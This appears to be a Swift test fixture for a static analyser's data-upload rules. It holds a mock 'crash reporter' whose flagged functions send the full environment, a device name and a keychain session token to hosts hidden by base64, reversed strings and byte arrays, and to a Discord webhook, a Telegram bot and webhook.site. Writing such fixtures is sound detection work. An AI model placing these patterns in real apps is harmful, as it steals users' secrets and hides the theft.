// A "crash reporter" that hides where it reports to: hosts decoded from base64,
// reversed strings and byte arrays, plus a Discord webhook and a Telegram bot.
import Foundation

enum Diagnostics {
    static func endpoint() -> URL {
        let encoded = "aHR0cHM6Ly9jZG4tdXBkYXRlLXN0YXRzLnh5ei9y"
        let decoded = String(data: Data(base64Encoded: encoded)!, encoding: .utf8)!
        return URL(string: decoded)!
    }

    static func sendEnvironment() {
        let dump = ProcessInfo.processInfo.environment
        let lines = dump.map { "\($0.key)=\($0.value)" }.joined(separator: "\n")
        var request = URLRequest(url: endpoint())
        request.httpMethod = "PUT"
        request.httpBody = lines.data(using: .utf8) //~ data-upload/env-vars-to-network
        URLSession.shared.dataTask(with: request).resume() //~ data-upload/suspicious-destination
    }

    static func reversedHost() {
        let target = String("ved.sgol-tpircs//:sptth".reversed())
        URLSession.shared.dataTask(with: URL(string: target)!).resume() //~ data-upload/suspicious-destination
    }

    static func byteHost(payload: Data) {
        let bytes: [UInt8] = [104, 116, 116, 112, 115, 58, 47, 47, 109, 46, 120, 121, 122]
        let url = URL(string: String(bytes: bytes, encoding: .utf8)!)!
        URLSession.shared.uploadTask(with: URLRequest(url: url), from: payload).resume() //~ data-upload/suspicious-destination
    }

    static func characterHost() {
        let letters: [Character] = ["h", "t", "t", "p", ":", "/", "/", "z", ".", "t", "k"]
        URLSession.shared.dataTask(with: URL(string: String(letters))!).resume() //~ data-upload/suspicious-destination
    }

    static func notifyDiscord(_ message: String) {
        let hook = URL(string: "https://discord.com/api/webhooks/1180000000000000000/Zm9vYmFy")!
        var request = URLRequest(url: hook)
        request.httpMethod = "POST"
        request.httpBody = try? JSONEncoder().encode(["content": message])
        URLSession.shared.dataTask(with: request).resume() //~ data-upload/suspicious-destination
    }

    static func telegram(deviceName: String) {
        let name = UIDevice.current.name
        AF.request("https://api.telegram.org/bot123456:ABCdef/sendMessage", parameters: ["text": name]) //~ data-upload/device-id-to-network data-upload/suspicious-destination
    }

    // Silent: loopback during development, and a documented host written out.
    static func localDebug() {
        URLSession.shared.dataTask(with: URL(string: "http://127.0.0.1:8080/health")!).resume() // ok: loopback during development
        URLSession.shared.dataTask(with: URL(string: "https://status.example.com/ping")!).resume() // ok: a documented host written out
    }

    // Silent: one configuration variable is not a dump of the environment.
    static func configuredBase() {
        let base = ProcessInfo.processInfo.environment["API_BASE_URL"] ?? "https://api.example.com"
        URLSession.shared.dataTask(with: URL(string: base + "/v1/status")!).resume() // ok: one configuration variable is not a dump of the environment
    }

    // Silent: a base64 *payload* is not a hidden destination.
    static func uploadAvatar() {
        let avatar = Data(base64Encoded: "iVBORw0KGgo=")!
        URLSession.shared.uploadTask(with: URLRequest(url: URL(string: "https://api.example.com/avatar")!), from: avatar).resume() // ok: a base64 payload is not a hidden destination
    }

    // Flagged: a keychain token in an authorization header is still stolen when the
    // request goes to a request catcher.
    static func leakSession() {
        let token = KeychainWrapper.standard.string(forKey: "session") ?? ""
        var request = URLRequest(url: URL(string: "https://webhook.site/6a1f3c2e-8b7d-4e90-a1c2-3d4e5f607182")!)
        request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization") //~ data-upload/sensitive-data-to-network
        URLSession.shared.dataTask(with: request).resume() //~ data-upload/suspicious-destination
    }
}
